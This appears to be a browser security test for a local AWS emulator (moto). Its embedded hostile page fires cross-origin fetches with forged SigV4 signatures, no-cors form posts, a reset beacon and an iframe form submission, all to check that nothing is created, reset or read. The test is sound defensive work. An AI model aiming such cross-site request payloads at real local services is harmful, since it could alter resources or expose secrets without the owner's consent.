"""A page of another origin, in a real browser, neither changes nor reads anything of the local AWS."""

import json
import os
import subprocess
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from queue import Queue

import boto3
import pytest

from pipeline.local.moto import start_control_plane
from tests.support.http_server import http_server

pytestmark = pytest.mark.browser
SECRET = "not for pages"

# Each attack as a page would try it, with and without CORS, and with a signature that is a guess.
PAGE = """<!doctype html><title>evil</title><body><script>
const at = %(target)s;
const scope = "/20260101/eu-central-1/ecs/aws4_request, SignedHeaders=host, Signature=";
const forged = "AWS4-HMAC-SHA256 Credential=local" + scope + "0".repeat(64);
const json = {"content-type": "application/x-amz-json-1.1"};
const createCluster = "AmazonEC2ContainerServiceV20141113.CreateCluster";
const create = {...json, "x-amz-target": createCluster, authorization: forged};
const read = {...json, "x-amz-target": "secretsmanager.GetSecretValue", authorization: forged};
const form = "Action=CreateVpc&CidrBlock=10.9.0.0/16&Version=2016-11-15";
const plain = {"content-type": "application/x-www-form-urlencoded"};
const attacks = {
  create: () => fetch(at, {method: "POST", headers: create, body: '{"clusterName": "evil"}'}),
  read: () => fetch(at, {method: "POST", headers: read, body: '{"SecretId": "s"}'}),
  form: () => fetch(at, {method: "POST", mode: "no-cors", headers: plain, body: form}),
  reset: () => fetch(at + "moto-api/reset", {method: "POST", mode: "no-cors"}),
  data: () => fetch(at + "moto-api/data.json"),
  bucket: () => fetch(at + "bucket/key"),
  put: () => fetch(at + "evil", {method: "PUT"}),
  beacon: async () => navigator.sendBeacon(at + "moto-api/reset"),
};
async function run() {
  const seen = {};
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      const answer = await attack();
      seen[name] = answer.text ? [answer.type, answer.status, await answer.text()] : String(answer);
    } catch (error) { seen[name] = String(error); }
  }
  const frame = document.createElement("iframe");
  frame.name = "f"; document.body.append(frame);
  const sent = document.createElement("form");
  sent.method = "POST"; sent.action = at; sent.target = "f";
  for (const [name, value] of new URLSearchParams(form)) {
    const input = document.createElement("input");
    input.name = name; input.value = value; sent.append(input);
  }
  document.body.append(sent);
  await new Promise(done => { frame.onload = done; sent.submit(); setTimeout(done, 3000); });
  try { seen.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "closed"; }
  catch (error) { seen.frame = String(error); }
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
}
run();
</script>"""


@pytest.fixture
def plane():
    plane = start_control_plane()
    yield plane
    plane.stop()


def client(plane, service):
    keys = plane.keys
    return boto3.client(
        service,
        endpoint_url=plane.url,
        region_name="eu-central-1",
        aws_access_key_id=keys.access_key,
        aws_secret_access_key=keys.secret_key,
    )


@contextmanager
def evil_site(page):
    """A server of another origin; yields its URL and the queue of what its page has seen."""
    seen = Queue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self._answer(page.encode())

        def do_POST(self):
            seen.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, content):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_):
            pass

    with http_server(Handler) as server:
        yield f"http://127.0.0.1:{server.server_port}/", seen


@contextmanager
def browsing(chromium, url, profile):
    """A browser without a window that shows `url`."""
    options = ["--headless=new", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}"]
    options += ["--disable-dev-shm-usage", *(["--no-sandbox"] if os.geteuid() == 0 else [])]
    with (profile.parent / "browser.log").open("wb") as log:
        browser = subprocess.Popen([chromium, *options, url], stdout=log, stderr=log)
        try:
            yield
        finally:
            browser.terminate()
            browser.wait(timeout=20)


def resources(plane):
    """What the attacks would change."""
    return {
        "clusters": client(plane, "ecs").list_clusters()["clusterArns"],
        "networks": sorted(each["VpcId"] for each in client(plane, "ec2").describe_vpcs()["Vpcs"]),
        "buckets": [each["Name"] for each in client(plane, "s3").list_buckets()["Buckets"]],
        "secret": client(plane, "secretsmanager").get_secret_value(SecretId="s")["SecretString"],
    }


def test_a_page_of_another_origin_changes_and_reads_nothing(plane, chromium, tmp_path):
    client(plane, "secretsmanager").create_secret(Name="s", SecretString=SECRET)
    s3 = client(plane, "s3")
    s3.create_bucket(Bucket="bucket", CreateBucketConfiguration={"LocationConstraint": "eu-central-1"})
    s3.put_object(Bucket="bucket", Key="key", Body=SECRET.encode(), ACL="public-read")
    before = resources(plane)
    page = PAGE % {"target": json.dumps(f"{plane.url}/")}
    with evil_site(page) as (url, queue), browsing(chromium, url, tmp_path / "profile"):
        seen = queue.get(timeout=120)
    assert resources(plane) == before
    assert SECRET not in json.dumps(seen)
    refused = {"create", "read", "data", "bucket", "put"}
    assert {name for name in refused if not seen[name].startswith("TypeError")} == set()
    for name in ("form", "reset"):
        assert seen[name] == ["opaque", 0, ""]
